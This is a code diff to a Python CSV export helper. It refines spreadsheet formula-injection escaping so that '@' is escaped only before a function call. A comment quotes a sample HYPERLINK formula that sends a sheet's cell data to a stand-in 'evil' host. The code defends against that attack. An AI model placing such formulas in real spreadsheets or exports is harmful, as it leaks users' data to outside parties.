@@ -5,6 +5,7 @@ from __future__ import annotations
 import csv
 import json
 import os
+import re
 import sys
 from collections.abc import Iterable, Sequence
 from pathlib import Path
@@ -44,13 +45,14 @@ def _table(rows: Iterable[dict[str, Any]], columns: Sequence[str], out: TextIO) 
 
 # A cell a spreadsheet would run as a formula: a post reading `=HYPERLINK("https://evil/?"&A1, "click")` would send
 # the sheet's data away on a click. Such text cells get a leading `'` (OWASP's advice), numbers stay as they are.
-_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+# An `@` only before a function call (`@SUM(`): a reply starting with its `@handle` is ordinary text.
+_FORMULA = re.compile(r"[=+\-\t\r]|@\w+\(")
 
 
 def _csv_cell(value: Any) -> Any:
     if isinstance(value, bytes | bytearray | memoryview):
         value = _bytes_as_text(value)
-    return "'" + value if isinstance(value, str) and value.startswith(_FORMULA_START) else value
+    return "'" + value if isinstance(value, str) and _FORMULA.match(value) else value
 
 
 def _csv(rows: Iterable[dict[str, Any]], columns: Sequence[str], out: TextIO) -> int:
